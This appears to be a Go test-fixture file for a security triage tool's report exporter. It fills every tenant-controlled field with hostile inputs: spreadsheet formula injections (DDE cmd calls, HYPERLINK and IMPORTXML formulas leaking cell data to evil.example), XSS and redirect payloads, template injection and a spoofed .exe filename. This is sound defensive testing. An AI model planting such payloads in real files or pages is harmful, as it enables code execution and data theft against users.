package report

import (
	"time"

	"watchfloor/app"
	"watchfloor/app/triage"
)

// formulas are cells that some spreadsheet would evaluate.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠x", "﹦1+1", "﹢1", "﹣1", "﹫x", "⁼1", "⁻1", "−1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1", "\u2003\u2028+1", "\x0b=1", "\u3164@x", "\u00ad-1",
	` =cmd|' /C calc'!A0`, "\n=1+1", "\u00a0=1+1", `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
	`=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`, "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0",
}

// hostile are titles, names and comments as an attacker may choose them.
var hostile = append([]string{
	`<script>document.title="PWNED"</script>`, `"><img src=x onerror=document.title="PWNED">`,
	`<svg/onload=document.title="PWNED">`, `<a href="javascript:document.title='PWNED'">x</a>`, `</title><script>document.title="PWNED"</script>`,
	`</style><img src=https://evil.example/x.png>`, `<iframe src=//evil.example></iframe>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example>`, `<form action=//evil.example><button>x`, `{{.Meta}}{{template "x"}}`,
	`'+alert(1)+'`, "`${alert(1)}`", `&lt;script&gt;`, `&#60;script&#62;`, `<!--`, `]]>`, `<plaintext>`,
	"invoice\u202excod.exe", "\u2066a\u2069", "zero\u200bwidth", "bell\a esc\x1b[31mred", "line\nbreak", "\xff\xfe broken", "combining e\u0301\u0301\u0301\u0301\u0301\u0301",
	"https://evil.example/a?b=c", "beacon to 203.0.113.7", "mail jo@evil.example", "a;=1+1", `quote " and , comma`, "عنوان", "日本語 ＝x",
}, formulas...)

var noon = time.Date(2026, 3, 12, 12, 0, 0, 0, time.UTC)

func rowOf(id int64, s string) triage.Row {
	score := 61
	return triage.Row{
		ID: id, Ref: app.Ref{Source: app.Sentinel, ID: "r1"}, Number: "48213", Title: s, Owner: s, Entities: s, Tags: []string{s},
		Severity: app.High, Status: app.StatusNew, Score: &score, Alerts: -1, Created: noon, Modified: noon.Add(time.Hour),
	}
}

// caseOf is a case with s at every place where a tenant can put text.
func caseOf(s string) triage.Case {
	inc := app.Incident{
		Ref: app.Ref{Source: app.Sentinel, ID: s}, Number: s, Title: s, Description: s, ModifiedBy: s, Created: noon,
		Products: []string{s}, Tactics: []string{s}, Rules: []string{s}, URL: s,
		Fields: app.Fields{
			Severity: app.High, Status: app.StatusClosed, Owner: app.Owner{Name: s}, Classification: app.Classification(s),
			Determination: s, ClosingNote: s, Tags: []string{s},
		},
	}
	twin := inc
	twin.Source = app.Defender
	r := rowOf(1, s)
	r.Number, r.Twin, r.Queued, r.Conflict, r.Disagree, r.Deleted = s, s, 2, true, true, true
	e := app.Entity{Kind: app.EntityKind(s), Key: s, Name: s}
	return triage.Case{
		Row: r, Incident: inc, Twin: &twin, DetailsAt: noon, Draft: s,
		Details: app.Details{
			Alerts:    []app.Alert{{ID: s, Title: s, Description: s, Severity: app.Medium, Status: s, Product: s, Category: s, Techniques: []string{s}, Created: noon}},
			Entities:  []app.Entity{e},
			Evidence:  []app.Evidence{{AlertID: s, Entity: e, Verdict: s, Remediation: s, Roles: []string{s}}},
			Comments:  []app.Comment{{Author: s, Text: s, Created: noon, Pending: true}},
			Tasks:     []app.Task{{Title: s, Description: s, CreatedBy: s, Done: true}},
			Bookmarks: []app.Bookmark{{Title: s, Notes: s, Query: s, CreatedBy: s}},
		},
		Changes: []app.Change{{Seen: noon, At: noon, Who: s, Field: app.Field(s), From: s, To: s}},
	}
}
